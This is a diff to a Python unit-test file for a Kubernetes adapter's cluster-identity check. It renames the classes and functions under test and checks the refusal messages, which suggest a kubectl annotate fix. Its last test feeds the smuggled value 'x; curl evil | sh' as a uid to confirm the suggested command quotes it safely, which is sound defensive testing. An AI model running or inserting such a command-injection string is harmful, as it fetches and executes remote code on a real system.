@@ -3,7 +3,7 @@
 import pytest
 
 from adapter import names
-from adapter.admission.cluster_identity import Known, known, recorded, refusal
+from adapter.admission.cluster_identity import IdentityRecord, find_conflict, identity_record, recorded_uid
 from adapter.objects.unstructured import Raw
 from tests.unit.builders import make_worker_cluster
 
@@ -19,50 +19,52 @@ def cluster(name: str = "east", uid: object = "", accepted: str = "", made: str 
 @pytest.mark.parametrize(
     ("on_record", "reason"),
     [
-        pytest.param(Known("east"), "", id="never seen"),
-        pytest.param(Known("east", HERE), "", id="the same"),
-        pytest.param(Known("east", THERE), names.ANOTHER_CLUSTER, id="another one"),
-        pytest.param(Known("east", THERE, HERE), "", id="another one, which is accepted"),
-        pytest.param(Known("east", THERE, "33333333"), names.ANOTHER_CLUSTER, id="a third one is accepted"),
-        pytest.param(Known("east", HERE, THERE), "", id="the same, and another one will be accepted"),
-        pytest.param(Known("east", "", "33333333"), "", id="never seen, and another one will be accepted"),
-        pytest.param(Known("east", taken={HERE: "west"}), names.REGISTERED_TWICE, id="west's"),
-        pytest.param(Known("east", taken={THERE: "west"}), "", id="not west's"),
-        pytest.param(Known("east", "", HERE, {HERE: "west"}), "", id="west's, and meant"),
-        pytest.param(Known("east", HERE, "", {HERE: "west"}), names.REGISTERED_TWICE, id="both have it on record"),
+        pytest.param(IdentityRecord("east"), "", id="never seen"),
+        pytest.param(IdentityRecord("east", HERE), "", id="the same"),
+        pytest.param(IdentityRecord("east", THERE), names.ANOTHER_CLUSTER, id="another one"),
+        pytest.param(IdentityRecord("east", THERE, HERE), "", id="another one, which is accepted"),
+        pytest.param(IdentityRecord("east", THERE, "33333333"), names.ANOTHER_CLUSTER, id="a third one is accepted"),
+        pytest.param(IdentityRecord("east", HERE, THERE), "", id="the same, and another one will be accepted"),
+        pytest.param(IdentityRecord("east", "", "33333333"), "", id="never seen, and another one will be accepted"),
+        pytest.param(IdentityRecord("east", other_cluster_by_uid={HERE: "west"}), names.REGISTERED_TWICE, id="west's"),
+        pytest.param(IdentityRecord("east", other_cluster_by_uid={THERE: "west"}), "", id="not west's"),
+        pytest.param(IdentityRecord("east", "", HERE, {HERE: "west"}), "", id="west's, and meant"),
         pytest.param(
-            Known("east", THERE, "", {HERE: "west"}), names.ANOTHER_CLUSTER, id="a Secret with west's content"
+            IdentityRecord("east", HERE, "", {HERE: "west"}), names.REGISTERED_TWICE, id="both have it on record"
+        ),
+        pytest.param(
+            IdentityRecord("east", THERE, "", {HERE: "west"}), names.ANOTHER_CLUSTER, id="a Secret with west's content"
         ),
     ],
 )
-def test_who_is_taken_for_the_cluster(on_record: Known, reason: str) -> None:
-    found = refusal(on_record, HERE)
+def test_who_is_taken_for_the_cluster(on_record: IdentityRecord, reason: str) -> None:
+    found = find_conflict(on_record, HERE)
     assert (found.reason if found else "") == reason
 
 
 def test_whoever_may_put_it_right_reads_how() -> None:
-    found = refusal(Known("east", THERE), HERE)
-    assert found and found.why == (
+    found = find_conflict(IdentityRecord("east", THERE), HERE)
+    assert found and found.message == (
         "its kubeconfig leads to another cluster than before: the uid of its namespace kube-system is 11111111-aaaa, and "
         "status.clusterUID says 22222222-bbbb; nothing is read or written there, and what runs in the first one is left as it is. Put "
         "the kubeconfig right; or, if that cluster is gone for good and this one stands in its place, say so: kubectl annotate "
         "workercluster east --overwrite rayspan.dev/accept-cluster=11111111-aaaa"
     )
-    found = refusal(Known("east", taken={HERE: "west"}), HERE)
-    assert found and "it is the cluster of WorkerCluster west" in found.why
-    assert found.why.endswith(
+    found = find_conflict(IdentityRecord("east", other_cluster_by_uid={HERE: "west"}), HERE)
+    assert found and "it is the cluster of WorkerCluster west" in found.message
+    assert found.message.endswith(
         "kubectl annotate workercluster east --overwrite rayspan.dev/accept-cluster=11111111-aaaa"
     )
 
 
 def test_a_uid_without_an_end_makes_no_sentence_without_an_end() -> None:
-    found = refusal(Known("east", THERE), "x" * 10**6)
-    assert found and len(found.why) < 1000
+    found = find_conflict(IdentityRecord("east", THERE), "x" * 10**6)
+    assert found and len(found.message) < 1000
 
 
 @pytest.mark.parametrize(("uid", "want"), [("", ""), (HERE, HERE), (5, ""), ({"a": 1}, "")])
 def test_what_is_on_record_is_read_tolerantly(uid: object, want: str) -> None:
-    assert recorded(cluster(uid=uid)) == want
+    assert recorded_uid(cluster(uid=uid)) == want
 
 
 EARLY, LATE = "2026-01-01T00:00:00Z", "2026-02-01T00:00:00Z"
@@ -98,14 +100,17 @@ EARLY, LATE = "2026-01-01T00:00:00Z", "2026-02-01T00:00:00Z"
     ],
 )
 def test_whose_a_cluster_is(mine: Raw, others: list[Raw], taken: dict[str, str]) -> None:
-    assert known(mine, [*others, mine]).taken == taken
+    assert identity_record(mine, [*others, mine]).other_cluster_by_uid == taken
 
 
 def test_all_that_is_on_record_is_read() -> None:
-    assert known(cluster(uid=HERE, accepted=THERE), []) == Known("east", HERE, THERE)
+    assert identity_record(cluster(uid=HERE, accepted=THERE), []) == IdentityRecord("east", HERE, THERE)
 
 
-@pytest.mark.parametrize("on_record", [Known("east", THERE), Known("east", taken={"x; curl evil | sh": "west"})])
-def test_what_is_to_be_typed_holds_no_command_of_who_answers(on_record: Known) -> None:
-    found = refusal(on_record, "x; curl evil | sh")
-    assert found and found.why.endswith(" rayspan.dev/accept-cluster='x; curl evil | sh'")
+@pytest.mark.parametrize(
+    "on_record",
+    [IdentityRecord("east", THERE), IdentityRecord("east", other_cluster_by_uid={"x; curl evil | sh": "west"})],
+)
+def test_what_is_to_be_typed_holds_no_command_of_who_answers(on_record: IdentityRecord) -> None:
+    found = find_conflict(on_record, "x; curl evil | sh")
+    assert found and found.message.endswith(" rayspan.dev/accept-cluster='x; curl evil | sh'")
